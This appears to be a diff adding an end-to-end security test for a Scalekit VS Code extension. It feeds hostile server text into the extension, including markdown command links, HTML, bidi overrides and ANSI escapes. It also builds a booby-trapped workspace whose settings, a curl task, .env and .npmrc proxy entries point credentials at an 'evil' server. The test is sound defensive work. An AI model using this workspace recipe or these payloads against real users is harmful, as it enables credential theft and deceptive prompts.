@@ -1,0 +1,131 @@
+import assert from 'node:assert/strict';
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { startSandbox, type Sandbox } from '../../src/sandbox/sandboxServer';
+import { vsixFile } from '../host/package';
+import { versions } from '../host/vscodeHost';
+import { openWindow, type EditorWindow } from '../host/window';
+import { hoverText } from './gestures';
+import { keepEvidenceOfFailures } from './support';
+import { until } from '../support/until';
+import { startHttpServer, type HttpServer } from '../support/httpServer';
+
+/** What a server would say that wants a person to run a command or open a page: links, an icon, HTML, a turned direction, a terminal's colour. */
+const HOSTILE = '[Free upgrade](command:workbench.action.terminal.new) $(zap) <b>now</b> https://evil.example www.evil.example evil@evil.example \u202eevil\u001b[31m';
+
+for (const version of versions) {
+  describe(`Hostile text and a hostile workspace, in VS Code ${version.vscode}`, () => {
+    let window: EditorWindow;
+    let sandbox: Sandbox;
+    let evil: HttpServer;
+    let folder: string;
+
+    before(async () => {
+      evil = await startHttpServer((_request, response) => void response.end('{}'));
+      sandbox = await startSandbox({ organizations: 3 });
+      await rename(sandbox, HOSTILE.replace('\u001b', ''));
+      folder = await mkdtemp(join(tmpdir(), 'hostile-workspace-'));
+      await hostileWorkspace(folder, evil.url);
+      window = await openWindow({
+        version,
+        vsix: vsixFile(),
+        folder,
+        trusted: true,
+        environment: { SCALEKIT_ENVIRONMENT_URL: sandbox.url, SCALEKIT_CLIENT_ID: sandbox.clientId, SCALEKIT_CLIENT_SECRET: sandbox.clientSecret },
+      });
+      await window.openView('Scalekit');
+      await window.waitForRows('Organizations', (rows) => rows.length >= 3);
+    });
+    keepEvidenceOfFailures(() => window);
+    after(async () => {
+      await window?.close();
+      await sandbox?.close();
+      await evil?.close();
+      await rm(folder, { recursive: true, force: true });
+    });
+
+    /** Whether anything on the screen can be clicked that the server's text made. */
+    const links = (): Promise<number> => window.page.locator('a[href], a[data-href]', { hasText: /Free upgrade/ }).count();
+    const icons = (): Promise<number> => window.page.locator('.codicon-zap').count();
+    const bold = (): Promise<number> => window.page.locator('b', { hasText: /^now$/ }).count();
+
+    async function isHarmless(): Promise<void> {
+      assert.deepEqual({ links: await links(), icons: await icons(), bold: await bold() }, { links: 0, icons: 0, bold: 0 });
+    }
+
+    it('a name does nothing in a row, nor in its hover', async () => {
+      const row = window.view('Organizations').locator('.monaco-list-row', { hasText: 'Free upgrade' }).first();
+      const text = await hoverText(window, row, 'command:workbench');
+      assert.match(text, /Free\supgrade/);
+      assert.match(text, /https:\/\/evil\.example\swww\.evil\.example\sevil@evil\.example\s\\u202e/);
+      assert.equal(await window.page.locator('.monaco-hover:visible a').count(), 0, 'no address is a link');
+      await isHarmless();
+    });
+
+    it('a name does nothing in a list to choose from', async () => {
+      await window.runCommand('Scalekit: Search Organizations…');
+      await window.page.keyboard.type('upgrade');
+      await window.page.locator('.quick-input-list .monaco-list-row', { hasText: 'Free upgrade' }).first().waitFor();
+      await isHarmless();
+      await window.page.keyboard.press('Escape');
+    });
+
+    it('a refusal does nothing in a notification', async () => {
+      sandbox.addFault({ path: '/api/v1/organizations', respond: { status: 400, body: { code: 3, message: HOSTILE, details: [] } } });
+      await window.runCommand('Scalekit: Test Connection');
+      await window.waitForPrompt(({ title }) => title.startsWith('Test'));
+      await window.page.keyboard.press('Enter');
+      await window.waitForNotification(/Free upgrade/);
+      await isHarmless();
+      sandbox.clearFaults();
+    });
+
+    it('an error code of the token endpoint does nothing in an input box, nor in the log', async () => {
+      sandbox.addFault({ path: '/oauth/token', respond: { status: 401, body: { error: '[Free upgrade](command:workbench.action.quit)\u001b[31m\n[error] fine' } } });
+      await window.runCommand('Scalekit: Fetch New Access Token');
+      const { text } = await window.waitForNotification(/Free upgrade/);
+      assert.match(text, /\\u001b/);
+      await isHarmless();
+      sandbox.clearFaults();
+    });
+
+    it('no command was run, and the workspace has sent nothing anywhere', async () => {
+      assert.equal(await window.page.locator('.terminal-wrapper').count(), 0);
+      sandbox.clearRequests();
+      await window.runCommand('Scalekit: Fetch New Access Token');
+      await until('a new token', () => sandbox.requests.some(({ path, status }) => path === '/oauth/token' && status === 200), 20_000);
+      assert.deepEqual(evil.requests, []);
+    });
+  });
+}
+
+async function rename(sandbox: Sandbox, displayName: string): Promise<void> {
+  const body = new URLSearchParams({ grant_type: 'client_credentials', client_id: sandbox.clientId, client_secret: sandbox.clientSecret });
+  const { access_token: token } = (await (await fetch(`${sandbox.url}/oauth/token`, { method: 'POST', body })).json()) as { access_token: string };
+  const headers = { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' };
+  const created = await fetch(`${sandbox.url}/api/v1/organizations`, { method: 'POST', headers, body: JSON.stringify({ display_name: displayName }) });
+  assert.equal(created.ok, true);
+}
+
+/** A repository that would like the credentials to go to a server of its own. */
+async function hostileWorkspace(folder: string, evil: string): Promise<void> {
+  const proxy = evil;
+  const settings = {
+    'scalekit.environmentUrl': evil,
+    'scalekit.url': evil,
+    'scalekit.clearClipboardAfterSeconds': 1,
+    'http.proxy': proxy,
+    'http.proxySupport': 'override',
+    'http.proxyStrictSSL': false,
+    'terminal.integrated.env.linux': { SCALEKIT_ENVIRONMENT_URL: evil },
+  };
+  const task = { label: 'evil', type: 'shell', command: `curl -s ${evil}/task` };
+  const launch = { configurations: [{ type: 'node', request: 'launch', name: 'evil', program: '/nowhere', env: { SCALEKIT_ENVIRONMENT_URL: evil } }] };
+  await mkdir(join(folder, '.vscode'), { recursive: true });
+  await writeFile(join(folder, '.vscode/settings.json'), JSON.stringify(settings));
+  await writeFile(join(folder, '.vscode/tasks.json'), JSON.stringify({ version: '2.0.0', tasks: [task] }));
+  await writeFile(join(folder, '.vscode/launch.json'), JSON.stringify(launch));
+  await writeFile(join(folder, '.env'), `SCALEKIT_ENVIRONMENT_URL=${evil}\nHTTPS_PROXY=${evil}\nHTTP_PROXY=${evil}\n`);
+  await writeFile(join(folder, '.npmrc'), `proxy=${evil}\n`);
+}
